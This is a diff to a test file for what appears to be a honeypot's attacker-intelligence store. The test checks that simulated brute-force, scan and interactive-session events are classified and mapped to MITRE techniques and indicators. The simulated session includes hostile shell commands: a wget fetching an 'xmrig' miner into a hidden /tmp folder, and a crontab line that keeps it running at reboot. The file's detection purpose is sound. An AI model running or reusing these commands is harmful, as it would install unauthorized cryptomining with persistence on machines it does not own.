@@ -348,16 +348,58 @@ describe.each(databases())('attacker intelligence storage on $kind', (provider) 
     expect(await db.intel.iocPage({ limit: 10 })).toEqual([])
   })
 
-  it('with the default (core) rules, plain traffic stores and classifies without findings', async () => {
+  it("through core's rules: a brute force, a miner download with a cron job, and a scan are told apart", async () => {
     const db = await open({})
+    const at = (second: number) => new Date(Date.UTC(2026, 11, 3, 12, 0, second))
+    const brute = Array.from({ length: 6 }, (_, i) =>
+      event({
+        attackerIp: '198.51.100.10',
+        eventType: 'auth_attempt',
+        timestamp: at(i * 2),
+        fields: { username: 'root', password: `pw-${i}`, success: false },
+      }),
+    )
+    const shell = (cmd: string, second: number) =>
+      event({
+        attackerIp: '198.51.100.20',
+        eventType: 'command',
+        timestamp: at(second),
+        fields: { username: 'root', cmd, cwd: '/root', via: 'ssh' },
+      })
     await db.logs.ingest([
-      event({ eventType: 'connect' }),
-      event({ fields: { username: 'root', password: 'x' } }),
+      ...brute.slice(0, 3),
+      event({ attackerIp: '198.51.100.20', eventType: 'tty_start', timestamp: at(1), fields: { sid: 's1' } }),
+      shell('wget http://172.20.0.9:8080/xmrig -O /tmp/.x/xmrig', 20),
     ])
-    const [a] = (await db.attackers.list()).rows
-    expect(a?.eventCount).toBe(2)
-    expect(['unknown', 'scanner', 'brute_forcer', 'interactive', 'bot']).toContain(a?.classification)
-    expect(await db.intel.forAttacker(a?.id as string)).toMatchObject({ attacker: { ip: '203.0.113.7' } })
+    await db.logs.ingest([
+      ...brute.slice(3),
+      shell('chmod +x /tmp/.x/xmrig', 40),
+      shell(
+        '(crontab -l 2>/dev/null; echo "@reboot /tmp/.x/xmrig -o stratum+tcp://172.20.0.9:3333") | crontab -',
+        60,
+      ),
+      ...['ssh', 'http', 'smb', 'ftp'].map((service, i) =>
+        event({ attackerIp: '192.0.2.30', eventType: 'connect', service, timestamp: at(i), fields: {} }),
+      ),
+    ])
+    const byIp = new Map((await db.attackers.list()).rows.map((a) => [a.ip, a]))
+    expect(byIp.get('198.51.100.10')?.classification).toBe('brute_forcer')
+    expect(byIp.get('198.51.100.10')?.classificationEvidence[0]).toContain('6 login attempts (6 failed)')
+    expect(byIp.get('198.51.100.20')?.classification).toBe('interactive')
+    expect(byIp.get('198.51.100.20')?.behaviour).toMatchObject({
+      interactiveSessions: 1,
+      interactiveCommands: 3,
+    })
+    expect(byIp.get('192.0.2.30')?.classification).toBe('scanner')
+
+    const miner = await db.intel.forAttacker(byIp.get('198.51.100.20')?.id as string)
+    const techniques = new Set(miner?.techniques.map((t) => t.technique))
+    for (const id of ['T1105', 'T1053.003', 'T1496']) expect(techniques).toContain(id)
+    const iocs = miner?.iocs.map((i) => `${i.kind}:${i.value}`) ?? []
+    expect(iocs).toContain('url:http://172.20.0.9:8080/xmrig')
+    expect(iocs).toContain('ip:172.20.0.9')
+    const fleet = await db.intel.techniques()
+    expect(fleet.find((t) => t.technique === 'T1105')?.attackers).toBe(1)
     expect(await db.intel.forAttacker('missing')).toBeNull()
   })
 })
